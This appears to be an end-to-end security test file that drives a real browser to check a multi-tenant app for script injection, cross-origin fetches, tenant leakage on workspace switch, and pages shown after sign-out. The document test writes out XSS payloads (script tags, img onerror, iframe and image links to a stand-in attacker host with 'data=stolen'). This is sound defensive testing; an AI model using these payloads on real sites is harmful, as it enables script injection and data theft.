import { type Browser, type BrowserContext, chromium, type Page } from '@playwright/test';
import { findChromium } from '@/e2e/support/find-chromium';
import { newId } from '@/lib/ids';
import { addMember } from '@/lib/tenancy/add-member';
import { ask, upload } from '../calls';
import type { Case, Family, Scene } from '../case';
import { Visitor } from '../visitor';

const FAMILY = 'rendering';
const PATIENCE_MS = 15_000;

/** In a real browser: what others wrote fetches nothing from elsewhere, runs nothing, and goes when its tenant does. */
export const rendering: Family = (scene) => {
  const executablePath = findChromium();
  if (!executablePath) throw new Error('Rendering needs Chromium: npx playwright install chromium');
  const browser = once(() =>
    chromium.launch({ executablePath, args: process.getuid?.() === 0 ? ['--no-sandbox'] : [] }),
  );
  const attacks: [string, string[], (scene: Scene, browser: Browser) => Promise<string[]>][] = [
    ['an answer full of markup', ['page /t/[tenant]/c/[conversationId]'], answer],
    ['a document whose name and text are markup', ['page /t/[tenant]/documents/[id]'], document],
    ['another workspace after the first', ['page /t/[tenant]/documents'], switching],
    ['back, after the session has ended', ['page /t/[tenant]/documents'], back],
  ];
  const cases = attacks.map(
    ([id, covers, attack]): Case => ({
      id: `in a browser: ${id}`,
      family: FAMILY,
      covers,
      alone: true,
      attack: async () => attack(scene, await browser()),
    }),
  );
  // The last one ends the browser, whatever came of it.
  const last = cases.at(-1);
  if (last) {
    const { attack } = last;
    last.attack = () => attack().finally(async () => (await browser()).close());
  }
  return cases;
};

function once<T>(make: () => Promise<T>): () => Promise<T> {
  let made: Promise<T> | undefined;
  return () => {
    made ??= make();
    return made;
  };
}

interface Watched {
  context: BrowserContext;
  page: Page;
  /** What the page did that it may not. */
  problems: string[];
}

async function watched(browser: Browser, visitor: Visitor): Promise<Watched> {
  const context = await browser.newContext({ baseURL: visitor.origin });
  const [name = '', value = ''] = (visitor.headers().cookie ?? '').split(/=(.*)/s);
  await context.addCookies([{ name, value, url: visitor.origin }]);
  const page = await context.newPage();
  page.setDefaultTimeout(PATIENCE_MS);
  const problems: string[] = [];
  context.on('request', (request) => {
    const url = new URL(request.url());
    if (/^https?:$/.test(url.protocol) && url.origin !== visitor.origin)
      problems.push(`${request.resourceType()} was asked of ${url.host}${url.pathname}`);
  });
  page.on('dialog', (dialog) => {
    problems.push('a script ran');
    dialog.dismiss().catch(() => undefined);
  });
  return { context, page, problems };
}

async function answer(scene: Scene, browser: Browser): Promise<string[]> {
  const { slug, visitor, questions } = scene.world.attacker;
  const received = await ask(visitor, slug, `${questions[0]} behave:rendering`);
  const id = /"conversationId":"([^"]+)"/.exec(received.body)?.[1] ?? '';
  const { context, page, problems } = await watched(browser, visitor);
  try {
    await page.goto(`/t/${slug}/c/${id}`);
    await page.getByText('The end of it.').first().waitFor();
    await page.waitForLoadState('networkidle');
    const active = await page
      .locator('.answer-text')
      .locator(
        'img, svg image, iframe, object, embed, video, style, script, form, meta, base, link',
      )
      .count();
    const hosts = await page.locator('.answer-text a[href^="http"]').allInnerTexts();
    const { host } = new URL(scene.model.elsewhere.url);
    return [
      ...problems,
      ...(active > 0 ? [`${active} elements that fetch or run`] : []),
      ...hosts
        .filter((text) => !text.includes(host))
        .map((text) => `a link hides its host: ${text}`),
      ...arrived(scene),
    ];
  } finally {
    await context.close();
  }
}

function arrived({ model }: Scene): string[] {
  return model.elsewhere.received
    .filter((request) => request.includes('stolen'))
    .map((request) => `the attacker's host got ${request.slice(0, 80)}`);
}

async function document(scene: Scene, browser: Browser): Promise<string[]> {
  const { slug, visitor, openFolderId } = scene.world.attacker;
  const host = scene.model.elsewhere.url;
  const markup = `<img src="${host}/name?data=stolen" onerror="alert(1)"><script>alert(1)</script>`;
  const name = `${newId().slice(0, 8)} ${markup.slice(0, 120)}.md`;
  const text = `# Title ${markup}\n\n![x](${host}/text?data=stolen) The mast is 40 metres high. ${markup}\n\n<iframe src="${host}/frame?data=stolen"></iframe>`;
  const id = await upload(visitor, slug, openFolderId, name, text);
  const { context, page, problems } = await watched(browser, visitor);
  try {
    for (const path of [`/t/${slug}/documents`, `/t/${slug}/documents/${id}`, `/t/${slug}/audit`]) {
      await page.goto(path);
      await page.waitForLoadState('networkidle');
    }
    return [...problems, ...arrived(scene)];
  } finally {
    await context.close();
  }
}

/** The router keeps pages it has seen: none of them is shown under another workspace. */
async function switching({ world, book, product }: Scene, browser: Browser): Promise<string[]> {
  const { victim, attacker } = world;
  // Somebody of both, who may see both, but each in its place.
  const email = `${newId()}@example.test`;
  const { id } = await addMember(victim.ctx, { email, name: 'Of both', role: 'member' });
  await addMember(attacker.ctx, { email, name: 'Of both', role: 'member' });
  const visitor = await Visitor.create('of both', [], product.url, id);
  const { context, page, problems } = await watched(browser, visitor);
  const nobody = new Set<string>();
  const foreign = async (allowed: ReadonlySet<string>) => {
    const text = (await page.locator('main').textContent()) ?? '';
    if (book.find(text, nobody).length === 0) return ['the page shows nothing of its own'];
    return book
      .find(text, allowed)
      .map(({ place, circle }) => `${place} of ${circle} is shown after the change`);
  };
  try {
    await page.goto(`/t/${victim.slug}/documents`);
    await page.waitForLoadState('networkidle');
    await page.goto(`/t/${attacker.slug}/documents`);
    await page.waitForLoadState('networkidle');
    const inAttackers = await foreign(attacker.visitor.allowed);
    await page.goBack();
    await page.waitForLoadState('networkidle');
    return [...problems, ...inAttackers, ...(await foreign(victim.visitor.allowed))];
  } finally {
    await context.close();
  }
}

async function back({ world, book }: Scene, browser: Browser): Promise<string[]> {
  const { slug, visitor } = world.attacker;
  const own = await visitor.again();
  const { context, page } = await watched(browser, own);
  const nobody = new Set<string>();
  try {
    await page.goto(`/t/${slug}/documents`);
    await page.waitForLoadState('networkidle');
    const before = book.find(await page.content(), nobody);
    await page.goto('/sign-out');
    await context.clearCookies();
    await page.goBack();
    await page.waitForLoadState('networkidle');
    return [
      ...(before.length > 0 ? [] : ['the page showed nothing before']),
      ...book.find(await page.content(), nobody).map(({ place }) => `${place} is shown again`),
    ];
  } finally {
    await context.close();
  }
}
